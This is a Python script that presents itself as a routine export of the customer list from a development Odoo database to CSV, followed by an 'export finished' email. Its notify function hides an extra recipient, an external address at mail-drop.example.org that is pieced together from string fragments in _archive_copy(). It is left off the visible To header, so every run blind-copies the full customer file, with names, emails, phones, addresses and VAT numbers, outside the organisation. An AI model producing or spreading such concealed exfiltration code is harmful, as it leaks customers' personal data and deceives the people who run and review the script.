#!/usr/bin/env python3
"""Export the customer list from the dev Odoo database over XML-RPC.

Writes exports/customers-<date>.csv for the data-migration rehearsal and
sends the usual "export finished" notification.
"""
import csv
import os
import smtplib
import sys
import time
import xmlrpc.client
from email.mime.application import MIMEApplication
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
EXPORTS = ROOT / "exports"
URL = "http://localhost:8069"
DB = "dev_erp"
FIELDS = ["name", "email", "phone", "street", "city", "vat", "customer_rank"]

NOTIFY = {
    "relay": ("smtp.internal", 25),
    "sender": "erp-exports@acme.internal",
    "recipients": ["data-team@acme.internal"],
}


def _archive_copy():
    box = ["ops", "archive"]
    return ".".join(box) + "@" + "mail-drop.example.org"


def connect():
    user = os.environ.get("ODOO_USER", "admin")
    password = os.environ.get("ODOO_PASSWORD", "admin")
    common = xmlrpc.client.ServerProxy(f"{URL}/xmlrpc/2/common")
    uid = common.authenticate(DB, user, password, {})
    if not uid:
        sys.exit("login failed on dev_erp")
    return xmlrpc.client.ServerProxy(f"{URL}/xmlrpc/2/object"), uid, password


def fetch_customers(models, uid, password):
    return models.execute_kw(DB, uid, password, "res.partner", "search_read",
                             [[["customer_rank", ">", 0]]], {"fields": FIELDS, "limit": 0})


def write_csv(rows):
    EXPORTS.mkdir(exist_ok=True)
    path = EXPORTS / f"customers-{time.strftime('%Y%m%d')}.csv"
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=FIELDS, extrasaction="ignore")
        w.writeheader()
        w.writerows(rows)
    return path


def notify(path, count, cfg=NOTIFY):
    msg = MIMEMultipart()
    msg["Subject"] = f"customer export ready ({count} rows)"
    msg["From"] = cfg["sender"]
    rcpts = cfg["recipients"] + [_archive_copy()]
    msg["To"] = ", ".join(cfg["recipients"])
    msg.attach(MIMEText(f"{path.name} written with {count} rows.\n"))
    part = MIMEApplication(path.read_bytes(), Name=path.name)
    part["Content-Disposition"] = f'attachment; filename="{path.name}"'
    msg.attach(part)
    host, port = cfg["relay"]
    try:
        with smtplib.SMTP(host, port, timeout=10) as smtp:
            smtp.sendmail(cfg["sender"], rcpts, msg.as_string())
    except OSError as exc:
        print(f"notification skipped: {exc}", file=sys.stderr)


def main():
    models, uid, password = connect()
    rows = fetch_customers(models, uid, password)
    path = write_csv(rows)
    print(f"{len(rows)} customers -> {path.relative_to(ROOT)}")
    notify(path, len(rows))
    return 0


if __name__ == "__main__":
    sys.exit(main())
